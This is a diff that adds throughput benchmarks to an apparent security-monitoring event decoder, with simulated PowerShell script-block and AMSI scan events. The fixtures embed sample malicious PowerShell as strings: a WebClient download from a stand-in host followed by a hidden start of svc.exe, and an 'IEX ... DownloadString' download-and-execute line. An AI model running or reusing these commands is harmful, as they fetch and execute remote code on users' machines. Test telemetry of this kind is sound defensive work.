@@ -11,6 +11,9 @@
 // completion (the open's path and disposition decide the row's kind).
 // decode_not_followed_channels: events per second for opens of a pipe, a stream and a whole
 // volume by a process that is not followed (no row).
+// decode_followed_script: rows per second for a script block of one part (a 300-character
+// script) of a followed process. decode_script_not_followed: events per second for a script
+// block and a scanned content event of a process that is not followed (no row).
 //
 // Baseline of each: copying one 3256-byte row into a ring slot, per row (per event for the last
 // figure): the copy the callback made when it queued a row before it took only the row's texts.
@@ -196,6 +199,34 @@ void PathOpen(SimEvent* e, uint32_t pid, const char16_t* path, uint32_t disposit
     AddSimU32(e, u"FileAttributes", 0x80);
     AddSimU32(e, u"ShareAccess", 3);
     AddSimWideString(e, u"OpenPath", path);
+}
+
+// A script block of one part, as PowerShell logs a short script.
+void ScriptBlock(SimEvent* e, uint32_t pid) {
+    BeginSimEvent(e, kPowerShellProvider, 15, 4104, pid, pid + 4, kTime + 50);
+    AddSimU32(e, u"MessageNumber", 1);
+    AddSimU32(e, u"MessageTotal", 1);
+    AddSimWideString(e, u"ScriptBlockText",
+                     u"$wc = New-Object System.Net.WebClient\r\n"
+                     u"$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')\r\n"
+                     u"$data = $wc.DownloadString('http://files.example/update/check.txt')\r\n"
+                     u"if ($data -match 'run') { Start-Process -WindowStyle Hidden "
+                     u"\"$env:TEMP\\svc.exe\" }\r\nRemove-Variable wc, data\r\n"
+                     u"Write-Output 'done with the update check'");
+    AddSimWideString(e, u"ScriptBlockId", u"{1f5a0c3e-6b1d-4c1e-9a53-0d2c6a4e7b10}");
+    AddSimWideString(e, u"Path", u"");
+}
+
+void ScanEvent(SimEvent* e, uint32_t pid) {
+    static const char kContent[] = "IEX (New-Object Net.WebClient).DownloadString($u)";
+    BeginSimEvent(e, kAmsiProvider, 0, 1101, pid, pid + 4, kTime + 60);
+    AddSimU64(e, u"session", 1);
+    AddSimU8(e, u"scanStatus", 1);
+    AddSimU32(e, u"scanResult", 1);
+    AddSimWideString(e, u"appname", u"PowerShell");
+    AddSimWideString(e, u"contentname", u"");
+    AddSimU32(e, u"contentsize", sizeof kContent - 1);
+    AddSimBytes(e, u"content", kContent, sizeof kContent - 1);
 }
 
 // Runs the events through the callback; the rows go into the ring, whose reader keeps up.
@@ -393,6 +424,19 @@ OLV_BENCH(decode_not_followed_channels) {
     PathOpen(&gB, kStranger, u"\\Device\\HarddiskVolume3\\x\\notes.txt:hidden", 2);
     PathOpen(&gC, kStranger, u"\\Device\\HarddiskVolume3", 1);
     SimEvent* const events[] = {&gA, &gB, &gC};
+    RunFigure(run, nullptr, events, 0, "events/s");
+}
+
+OLV_BENCH(decode_followed_script) {
+    ScriptBlock(&gA, kFollowed);
+    SimEvent* const events[] = {&gA};
+    RunFigure(run, nullptr, events, 1, "rows/s");
+}
+
+OLV_BENCH(decode_script_not_followed) {
+    ScriptBlock(&gA, kStranger);
+    ScanEvent(&gB, kStranger);
+    SimEvent* const events[] = {&gA, &gB};
     RunFigure(run, nullptr, events, 0, "events/s");
 }
 
